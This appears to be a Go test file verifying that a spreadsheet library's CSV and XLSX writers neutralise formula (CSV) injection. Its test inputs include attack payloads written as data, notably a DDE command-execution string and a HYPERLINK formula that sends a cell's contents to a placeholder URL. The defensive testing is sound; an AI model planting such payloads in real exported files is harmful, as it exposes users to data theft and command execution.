package spreadsheet_test

import (
	"archive/zip"
	"bytes"
	"encoding/csv"
	"encoding/xml"
	"io"
	"strings"
	"testing"

	"github.com/qiao-platform/qiao/pkg/spreadsheet"
)

// formulas are what spreadsheet programs compute, or send to somewhere, where a cell of a
// text file begins so (OWASP, CSV injection), with signs before it that they pass over.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "\u3000=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
	`=HYPERLINK("http://example.invalid/?"&A1,"x")`, `=cmd|' /C calc'!A0`, "'=1+1", "'", "-", "+86 139", "=", "@",
}

// plain are texts in which a sign of a formula stands elsewhere.
var plain = []string{"", "a=b", "1-2", "阿勒泰市", "2026-11-30", "0123", "x@y", "<f>1</f>", "a & b", "_x0041_"}

// No program computes a cell of a CSV: an apostrophe stands before what would be, and
// before nothing else.
func TestNoCellOfACSVIsComputed(t *testing.T) {
	for _, s := range formulas {
		if got := spreadsheet.Inert(s); got != "'"+s {
			t.Errorf("%q is written as %q", s, got)
		}
	}
	for _, s := range plain {
		if got := spreadsheet.Inert(s); got != s {
			t.Errorf("%q is written as %q", s, got)
		}
	}
	var b bytes.Buffer
	w, err := spreadsheet.NewCSV(&b)
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range formulas {
		row := []string{s}
		if err := w.Row(row); err != nil || row[0] != s {
			t.Fatalf("%q, %v", row, err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	if rest, marked := bytes.CutPrefix(b.Bytes(), []byte("\xef\xbb\xbf")); marked {
		b = *bytes.NewBuffer(rest)
	} else {
		t.Errorf("it begins with %q", b.Bytes()[:3])
	}
	all, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(all) != len(formulas) {
		t.Fatalf("%d rows, %v", len(all), err)
	}
	for i, row := range all {
		// encoding/csv reads \r\n as \n, and leaves a lone \r.
		if !strings.HasPrefix(row[0], "'") {
			t.Errorf("%q is read as %q", formulas[i], row[0])
		}
	}
}

// sheetXML is what the sheet of a workbook holds.
type sheetXML struct {
	Rows []struct {
		Cells []struct {
			At      string  `xml:"r,attr"`
			Style   string  `xml:"s,attr"`
			Kind    string  `xml:"t,attr"`
			Formula *string `xml:"f"`
			Value   *string `xml:"v"`
			Text    string  `xml:"is>t"`
		} `xml:"c"`
	} `xml:"sheetData>row"`
	Head string `xml:"headerFooter>oddHeader"`
	Foot string `xml:"headerFooter>oddFooter"`
}

func part(t *testing.T, from []byte, name string) []byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(from), int64(len(from)))
	if err != nil {
		t.Fatal(err)
	}
	f, err := z.Open(name)
	if err != nil {
		t.Fatal(err)
	}
	text, err := io.ReadAll(f)
	if err != nil {
		t.Fatal(err)
	}
	return text
}

// Each cell of a workbook is text as it was given, no formula and no number; each printed
// page bears the mark.
func TestEveryCellOfAWorkbookIsText(t *testing.T) {
	var b bytes.Buffer
	w, err := spreadsheet.New(&b, spreadsheet.Sheet{Tab: "今日 <待办>", Mark: "A & B"})
	if err != nil {
		t.Fatal(err)
	}
	want := append(append([]string{}, formulas...), plain[1:]...)
	for _, s := range want {
		if err := w.Row([]string{"", s}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	var got sheetXML
	if err := xml.Unmarshal(part(t, b.Bytes(), "xl/worksheets/sheet1.xml"), &got); err != nil {
		t.Fatal(err)
	}
	if len(got.Rows) != len(want) {
		t.Fatalf("%d rows, want %d", len(got.Rows), len(want))
	}
	for i, r := range got.Rows {
		if len(r.Cells) != 1 {
			t.Fatalf("row %d has %d cells", i, len(r.Cells))
		}
		// Signs that XML cannot hold, and what looks like their spelling, are spelled so (ECMA-376 22.9.2.19).
		spelled := strings.NewReplacer("\r", "_x000D_", "_x0041_", "_x005F_x0041_").Replace(want[i])
		if c := r.Cells[0]; c.Kind != "inlineStr" || c.Style != "1" || c.Formula != nil || c.Value != nil || c.Text != spelled {
			t.Errorf("%q is the cell %+v", want[i], c)
		}
	}
	if got.Head != "&CA && B" || got.Foot != "&CA && B" {
		t.Errorf("printed pages bear %q and %q", got.Head, got.Foot)
	}
	if text := string(part(t, b.Bytes(), "xl/workbook.xml")); !strings.Contains(text, `name="今日 &lt;待办&gt;"`) {
		t.Errorf("the sheet is called otherwise: %s", text)
	}
}
